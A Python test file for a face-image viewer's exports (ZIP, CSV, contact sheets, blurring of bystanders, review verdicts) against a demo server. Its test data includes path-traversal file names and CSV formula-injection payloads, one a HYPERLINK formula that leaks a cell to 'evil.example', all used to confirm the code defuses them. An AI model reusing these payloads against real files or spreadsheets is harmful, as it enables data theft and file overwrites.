"""Exports against the demo API over real HTTP: ZIP, directory, CSV, contact sheet."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from PIL import Image, ImageChops, ImageStat
from PIL.Image import Resampling

from viewer import export, export_csv
from viewer.api import Client
from viewer.compose import ViewOptions, sheet_title
from viewer.config import Settings
from viewer.demo import NAMESPACE, SAMPLE_GROUP_ID
from viewer.demo.catalogue import PERSON_CROWD
from viewer.demo.server import DemoServer
from viewer.draw.sheet import MAX_SHEET_HEIGHT
from viewer.geometry import Placement
from viewer.hosts import HostPolicy
from viewer.models import Group, parse_group
from viewer.pipeline import Pipeline, group_by_image
from viewer.review.faces import ReviewSnapshot, snapshot, store_ids
from viewer.review.store import open_store
from viewer.select import Filters, Thresholds

IMAGE_NAME = re.compile(r"images/\d{4}_[A-Za-z0-9._-]+\.jpg")


@pytest.fixture()
def pipe(settings: Settings, policy: HostPolicy) -> Iterator[Pipeline]:
    pipeline = Pipeline(settings, policy)
    try:
        yield pipeline
    finally:
        pipeline.close()


def fetch(settings: Settings, group_id: str) -> tuple[Group, str | None]:
    """The group, and the bearer token the client was given for it."""
    with Client(settings) as client:
        group = client.get_group(NAMESPACE, group_id)
        return group, client._token


def zipped(
    group: Group, pipe: Pipeline, settings: Settings, **options: object
) -> tuple[zipfile.ZipFile, list[export.ImageFailure]]:
    data, failures = export.build_zip(
        group,
        group.faces,
        pipeline=pipe,
        options=ViewOptions(**options),  # type: ignore[arg-type]
        settings=settings,
        namespace=NAMESPACE,
    )
    return zipfile.ZipFile(io.BytesIO(data)), failures


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


# --- names and cells ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("crowd-0001", "crowd-0001"),
        ("../../etc/passwd", "etc_passwd"),
        ("..\\..\\windows\\system32", "windows_system32"),
        ("a/b c", "a_b_c"),
        ("..", "group"),
        ("", "group"),
        (None, "group"),
        (".hidden", "hidden"),
        ("-rf", "rf"),
        ("a..b...c", "a.b.c"),
        ("Zoë café", "Zo_caf"),
        ("x" * 500, "x" * export.NAME_LIMIT),
    ],
)
def test_safe_name_keeps_only_plain_characters(text: str | None, expected: str) -> None:
    name = export.safe_name(text)
    assert name == expected
    assert re.fullmatch(r"[A-Za-z0-9._-]+", name)
    assert not name.startswith((".", "-"))


def test_image_file_names_number_and_name_each_image_safely() -> None:
    faces = parse_group(
        {"images": [{"customId": "../../secret"}, {"id": "ab/cd"}, {}, {"customId": "ok"}]}
    ).faces
    names = export.image_file_names([(None, [f]) for f in faces])
    assert names == [
        "0001_secret.jpg",
        "0002_ab_cd.jpg",
        "0003_image.jpg",
        "0004_ok.jpg",
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cell_defuses_formulas(value: str, expected: str) -> None:
    assert export_csv.csv_cell(value) == expected


def test_faces_csv_guards_api_text_but_leaves_numbers_alone() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    group = parse_group(
        {
            "id": "g",
            "images": [
                {
                    "id": "@id",
                    "customId": hostile,
                    "feedId": "+cam",
                    "identityId": "-who",
                    "groupId": "\tg",
                    "url": "https://images.example/a.jpg",
                    "type": "=FACE",
                    "boundingBox": {"xMin": -0.02, "yMin": 0.1, "xMax": 0.5, "yMax": 0.6},
                    "boundingBoxConfidence": 0.9,
                    "sharpness": 0.5,
                    "isFrontal": True,
                    "width": 100,
                    "height": 50,
                    "createdAt": 1487648348000,
                }
            ],
        }
    )
    face = group.faces[0]
    placement = Placement((0.0, 5.0, 50.0, 30.0), "fractions", ("clamped",))
    data = export_csv.faces_csv(
        group,
        group.faces,
        {face.key: placement},
        {face.key: ["=flag"]},
        image_wh_by_key={face.key: (100, 50)},
    )
    (row,) = rows_of(data)
    assert row["customId"] == "'" + hostile
    assert row["id"] == "'@id"
    assert row["feedId"] == "'+cam"
    assert row["identityId"] == "'-who"
    assert row["groupId"] == "'\tg"
    assert row["type"] == "'=FACE"
    assert row["flags"] == "'=flag"
    assert row["xMin"] == "-0.02"  # a number we wrote, not API text: no apostrophe
    assert (row["x0"], row["y0"], row["x1"], row["y1"]) == ("0", "5", "50", "30")
    assert (row["fx0"], row["fy0"], row["fx1"], row["fy1"]) == ("0", "0.1", "0.5", "0.6")
    assert row["createdAt"] == "2017-02-21T03:39:08.000Z"
    assert row["isFrontal"] == "true"
    assert row["problems"] == "clamped"
    text_columns = ("id", "customId", "feedId", "identityId", "groupId", "type", "flags")
    assert all(not row[c].startswith(export_csv.FORMULA_STARTS) for c in text_columns)


def test_describe_filters_names_each_filter() -> None:
    assert export.describe_filters(None) == "none"
    assert export.describe_filters(Filters()) == "none"
    text = export.describe_filters(
        Filters(min_confidence=0.8, min_sharpness=0.4, pose="profile", feeds=("cam\x1b1",))
    )
    assert (
        text == "confidence at least 80%; sharpness at least 0.40; profile faces only; feeds cam 1"
    )
    text = export.describe_filters(Filters(max_confidence=0.9, max_sharpness=0.5))
    assert text == "confidence at most 90%; sharpness at most 0.50"


# --- the ZIP ------------------------------------------------------------------------------


def test_zip_holds_full_size_images_csv_json_and_readme(
    demo: DemoServer, settings: Settings, pipe: Pipeline
) -> None:
    group, token = fetch(settings, "demo-crowd")
    archive, failures = zipped(group, pipe, settings)
    assert failures == []
    names = archive.namelist()
    images = [n for n in names if n.startswith("images/")]
    assert sorted(set(names) - set(images)) == ["README.txt", "faces.csv", "group.json"]
    assert len(images) == len(group.image_urls) == 10
    assert all(IMAGE_NAME.fullmatch(n) for n in images)
    assert [n[7:11] for n in images] == [f"{i:04d}" for i in range(1, 11)]

    photos = demo.data.photos
    for name, url in zip(images, group.image_urls, strict=True):
        with Image.open(io.BytesIO(archive.read(name))) as image:
            image.load()
            assert image.format == "JPEG"
            path = url.removeprefix(demo.base_url)
            assert image.size == photos[path].wh  # full size, not a thumbnail

    assert json.loads(archive.read("group.json")) == demo.data.groups[(NAMESPACE, "demo-crowd")]

    readme = archive.read("README.txt").decode("utf-8")
    assert "Group:        demo-crowd" in readme
    assert f"Namespace:    {NAMESPACE}" in readme
    assert f"API host:     {settings.api_host}" in readme
    assert "Faces:        13 of 13" in readme
    assert "Filters:      none" in readme

    secrets = [settings.client_secret, token, demo.static_token, "Bearer", "Authorization"]
    assert token and settings.client_secret
    for name in names:
        data = archive.read(name)
        for secret in secrets:
            assert secret is not None
            assert secret.encode() not in data, (name, secret)


def test_zip_csv_has_every_column_and_one_row_per_face(
    demo: DemoServer, settings: Settings, pipe: Pipeline
) -> None:
    group, _ = fetch(settings, "demo-pixels")
    archive, _ = zipped(group, pipe, settings)
    text = archive.read("faces.csv").decode("utf-8")
    header = next(csv.reader(io.StringIO(text)))
    assert header == list(export_csv.CSV_COLUMNS)
    for column in ("index", "customId", "url", "createdAt", "xMin", "yMax", "x0", "fy1"):
        assert column in header
    rows = rows_of(text.encode())
    assert len(rows) == len(group.faces) == 16
    names = set(archive.namelist())
    for face, row in zip(group.faces, rows, strict=True):
        assert row["index"] == str(face.index)
        assert row["id"] == face.id
        assert row["image_file"] in names
        assert row["createdAt"].endswith("Z") and row["createdAt"][:19] == (
            face.created_at.strftime("%Y-%m-%dT%H:%M:%S") if face.created_at else ""
        )
        assert row["interpretation"] in ("pixels", "pixels, scaled")
        w, h = int(row["image_width"]), int(row["image_height"])
        x0, x1 = float(row["x0"]), float(row["x1"])
        assert float(row["fx0"]) == pytest.approx(x0 / w, abs=1e-5)
        assert float(row["fx1"]) == pytest.approx(x1 / w, abs=1e-5)
        assert 0 <= x0 < x1 <= w and 0 <= float(row["y0"]) < float(row["y1"]) <= h
    scaled = [r for r in rows if r["interpretation"] == "pixels, scaled"]
    assert len(scaled) == 2  # two faces report a larger size than the image served


def test_zip_csv_lists_the_flags_it_is_handed_else_those_under_the_thresholds(
    settings: Settings, pipe: Pipeline
) -> None:
    group, _ = fetch(settings, "demo-pixels")
    faces = group.faces[:3]
    strict = Thresholds(confidence=1.0, sharpness=1.0)  # flags every face of the group

    def flags_column(**given: object) -> list[str]:
        data, _ = export.build_zip(
            group, faces, pipeline=pipe, options=ViewOptions(), settings=settings, **given
        )
        return [r["flags"] for r in rows_of(zipfile.ZipFile(io.BytesIO(data)).read("faces.csv"))]

    assert all(flags_column(thresholds=strict))
    assert flags_column(thresholds=strict, flags={faces[1].key: ["chosen"]}) == ["", "chosen", ""]


def test_zip_of_a_broken_group_lists_each_failed_image(settings: Settings, pipe: Pipeline) -> None:
    group, _ = fetch(settings, "demo-broken")
    archive, failures = zipped(group, pipe, settings)
    by_face = {f.faces[0]: f for f in failures}
    assert sorted(by_face) == ["broken-no-url", "broken-not-an-image", "broken-url-404"]
    assert "404" in by_face["broken-url-404"].reason
    assert "not an image" in by_face["broken-not-an-image"].reason
    assert by_face["broken-no-url"].url is None

    images = [n for n in archive.namelist() if n.startswith("images/")]
    assert len(images) == 6
    assert all(f"images/{f.file}" not in images for f in failures)
    readme = archive.read("README.txt").decode("utf-8")
    assert "(6 drawn, 3 failed)" in readme
    for failure in failures:
        assert failure.file in readme and failure.reason in readme

    rows = {r["customId"]: r for r in rows_of(archive.read("faces.csv"))}
    assert len(rows) == 9
    assert rows["broken-url-404"]["x0"] == "" and rows["broken-url-404"]["image_file"] == ""
    assert (
        "image not drawn: The image is gone from its host (404)."
        in (rows["broken-url-404"]["problems"])
    )
    assert "x values were inverted" in rows["broken-inverted-box"]["problems"]
    assert rows["broken-no-box"]["problems"] == "no bounding box"


def test_blur_hides_the_groups_faces_and_the_bystanders_beside_them(
    demo: DemoServer, settings: Settings, pipe: Pipeline
) -> None:
    """demo-crowd's frames hold two to four passers-by besides the group's faces: blurred,
    no face in the ZIP's images keeps its detail, the group's or anyone else's."""
    assert demo.data is not None
    group, _ = fetch(settings, "demo-crowd")
    plain, _ = zipped(group, pipe, settings, show_labels=False)
    blurred, _ = zipped(group, pipe, settings, show_labels=False, blur=True)
    items = group_by_image(group.faces)
    names = [n for n in plain.namelist() if n.startswith("images/")]
    assert len(names) == len(items) == 10

    def detail(archive: zipfile.ZipFile, name: str, box: tuple[float, ...]) -> float:
        """Detail inside a face, at the scale of its eyes and mouth: how much neighbouring
        pixels differ, on average, with the face shrunk to 24 x 24."""
        with Image.open(io.BytesIO(archive.read(name))) as image:
            x0, y0, x1, y1 = box
            inner = (x0 + (x1 - x0) / 4, y0 + (y1 - y0) / 4, x1 - (x1 - x0) / 4, y1 - (y1 - y0) / 4)
            face = (
                image.convert("L").crop(tuple(map(round, inner))).resize((24, 24), Resampling.BOX)
            )
            steps = ImageChops.difference(face, ImageChops.offset(face, 1, 1))
            return ImageStat.Stat(steps.crop((1, 1, face.width, face.height))).mean[0]

    bystanders = 0
    for name, (url, _) in zip(names, items, strict=True):
        spec = demo.data.photos[urlsplit(url or "").path]
        for drawn in spec.faces:
            sharp, hidden = detail(plain, name, drawn.xyxy), detail(blurred, name, drawn.xyxy)
            if sharp < 5:  # drawn out of focus already
                continue
            bystanders += drawn.person != PERSON_CROWD
            assert hidden < sharp / 2.5, (name, drawn)
    assert bystanders >= 12  # of the passers-by, those drawn in focus


def test_progress_counts_images_up_to_the_total(settings: Settings, pipe: Pipeline) -> None:
    group, _ = fetch(settings, "demo-crowd")
    seen: list[tuple[int, int]] = []
    export.build_zip(
        group,
        group.faces,
        pipeline=pipe,
        options=ViewOptions(),
        settings=settings,
        on_progress=lambda done, total: seen.append((done, total)),
    )
    assert seen[0] == (0, 10) and seen[-1] == (10, 10)
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)


def test_write_dir_writes_the_zips_files(
    tmp_path: Path, settings: Settings, pipe: Pipeline
) -> None:
    group, _ = fetch(settings, "demo-broken")
    faces = group.faces[:4]
    archive, _ = zipped(replace(group, faces=faces), pipe, settings)
    failures = export.write_dir(
        tmp_path / "out",
        group,
        faces,
        pipeline=pipe,
        options=ViewOptions(),
        settings=settings,
    )
    written = sorted(
        p.relative_to(tmp_path / "out").as_posix()
        for p in (tmp_path / "out").rglob("*")
        if p.is_file()
    )
    assert written == sorted(archive.namelist())
    assert [f.file for f in failures] == ["0003_broken-url-404.jpg"]
    for name in written:
        if name != "README.txt":  # README holds the export time
            assert (tmp_path / "out" / name).read_bytes() == archive.read(name), name


# --- the contact sheet --------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "pil_format"), [("png", "PNG"), ("jpeg", "JPEG")])
def test_contact_sheet_is_1920_wide(
    settings: Settings, pipe: Pipeline, fmt: str, pil_format: str
) -> None:
    group, _ = fetch(settings, "demo-crowd")
    data = export.contact_sheet_bytes(
        group, group.faces, pipeline=pipe, options=ViewOptions(), fmt=fmt
    )
    with Image.open(io.BytesIO(data)) as sheet:
        assert sheet.format == pil_format
        assert sheet.width == 1920
        assert 300 < sheet.height < 2000


def test_contact_sheet_holds_at_most_its_limit(settings: Settings, pipe: Pipeline) -> None:
    group, _ = fetch(settings, "demo-crowd")

    def height(faces: object, limit: int = export.SHEET_MAX_FACES) -> int:
        data = export.contact_sheet_bytes(
            group, faces, pipeline=pipe, options=ViewOptions(), limit=limit
        )
        with Image.open(io.BytesIO(data)) as sheet:
            return sheet.height

    one_row = height(group.faces[:8])
    assert height(group.faces, limit=8) == one_row < height(group.faces)
    assert sheet_title(group, group.faces, limit=8) == (
        "Group demo-crowd · 13 faces (first 8 shown)"
    )
    assert sheet_title(group, group.faces, export.SHEET_MAX_FACES) == "Group demo-crowd · 13 faces"


def test_contact_sheet_of_thousands_of_faces_stays_under_the_jpeg_limit(
    settings: Settings, pipe: Pipeline
) -> None:
    group, _ = fetch(settings, "demo-large")
    assert len(group.faces) == 2000
    data = export.contact_sheet_bytes(
        group, group.faces, pipeline=pipe, options=ViewOptions(), fmt="jpeg"
    )
    with Image.open(io.BytesIO(data)) as sheet:
        assert sheet.width == 1920
        assert sheet.height < MAX_SHEET_HEIGHT


def test_contact_sheet_refuses_an_unknown_format(settings: Settings, pipe: Pipeline) -> None:
    group, _ = fetch(settings, SAMPLE_GROUP_ID)
    with pytest.raises(ValueError, match="png or jpeg"):
        export.contact_sheet_bytes(
            group, group.faces, pipeline=pipe, options=ViewOptions(), fmt="gif"
        )


# --- verdicts -------------------------------------------------------------------------------


def test_faces_csv_and_review_log_carry_the_verdicts_of_a_real_store(
    tmp_path: Path, settings: Settings, pipe: Pipeline
) -> None:
    group, _ = fetch(settings, "demo-crowd")
    ids = store_ids(group.faces)
    first, second = group.faces[0], group.faces[1]
    with open_store(Settings(review_db=tmp_path / "review.sqlite3")) as store:
        store.record(NAMESPACE, "demo-crowd", [(ids[first.key], first.id)], "belongs", "ann")
        store.record(
            NAMESPACE, "demo-crowd", [(ids[second.key], second.id)], "unsure", "=bob", note="hm"
        )
        store.record(
            NAMESPACE, "demo-crowd", [(ids[second.key], second.id)], "not this person", "ann"
        )
        review = snapshot(store, NAMESPACE, "demo-crowd", group.faces)
    data, _ = export.build_zip(
        group, group.faces, pipeline=pipe, options=ViewOptions(), settings=settings, review=review
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    rows = {r["index"]: r for r in rows_of(archive.read("faces.csv"))}
    assert (rows["0"]["verdict"], rows["0"]["verdict_by"]) == ("belongs", "ann")
    assert (rows["1"]["verdict"], rows["1"]["verdict_by"]) == ("not_this_person", "ann")
    assert rows["1"]["verdict_at"].endswith("Z")
    assert all(rows[str(i)]["verdict"] == "" for i in range(2, 13))
    log = list(csv.DictReader(io.StringIO(archive.read("review_log.csv").decode("utf-8"))))
    assert [(e["face_id"], e["verdict"], e["by"]) for e in log] == [
        (first.id, "belongs", "ann"),
        (second.id, "unsure", "'=bob"),
        (second.id, "not_this_person", "ann"),
    ]
    assert log[2]["replaced_verdict"] == "unsure"
    assert "review_log.csv  every verdict event of the group" in archive.read("README.txt").decode()
    applied = archive.read("apply_log.csv").decode("utf-8").splitlines()
    assert applied[0].startswith("batch_id,namespace,group_id,identity_id,operation,image_ids")
    assert applied[1:] == []  # nothing applied yet: the header alone


def test_an_unreadable_store_leaves_the_verdict_cells_empty_and_says_why(
    settings: Settings, pipe: Pipeline
) -> None:
    group, _ = fetch(settings, "demo-crowd")
    review = ReviewSnapshot(unavailable="The verdict database could not be reached.")
    data, _ = export.build_zip(
        group, group.faces, pipeline=pipe, options=ViewOptions(), settings=settings, review=review
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert "review_log.csv" not in archive.namelist()
    assert "apply_log.csv" not in archive.namelist()
    assert {
        r["verdict"] + r["verdict_by"] + r["verdict_at"] for r in rows_of(archive.read("faces.csv"))
    } == {""}
    readme = archive.read("README.txt").decode()
    assert "(no verdicts: The verdict database could not be reached.)" in readme
